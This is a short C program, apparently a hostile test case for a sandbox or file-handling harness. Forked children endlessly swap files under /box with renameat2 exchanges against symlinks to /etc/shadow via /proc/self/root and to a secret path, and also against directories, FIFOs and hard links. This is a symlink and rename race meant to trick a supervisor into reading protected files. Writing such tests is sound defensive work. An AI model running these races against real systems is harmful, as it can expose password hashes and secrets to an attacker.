// Attacks: the collection of files, by children who exchange them for links and folders until the moment they are killed.
#include "../hostile.h"
#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE 2
#endif
static void flip(const char *path, int with) {
  char other[64];
  snprintf(other, sizeof other, "%s.other", path);
  switch (with) {
    case 0: symlink(given("HOSTILE_SECRET"), other); break;
    case 1: symlink("/proc/self/root/etc/shadow", other); break;
    case 2: mkdir(other, 0777), chdir(other), symlink(given("HOSTILE_SECRET"), "inner"), chdir("/box"); break;
    default: mkfifo(other, 0666); break;
  }
  while (1) syscall(SYS_renameat2, AT_FDCWD, path, AT_FDCWD, other, RENAME_EXCHANGE);
}
int main(void) {
  const char *paths[] = {"/box/out", "/box/other", "/box/shadow", "/box/flip", "/box/inner", "/box/socket"};
  for (int i = 0; i < 6; i++) {
    close(open(paths[i], O_CREAT | O_WRONLY, 0666));
    // A hard link beside it, so that the file has more names than one.
    char second[64];
    snprintf(second, sizeof second, "/box/second%d", i);
    link(paths[i], second);
    if (fork() == 0) flip(paths[i], i % 4);
  }
  usleep(30000);
  return 0;
}
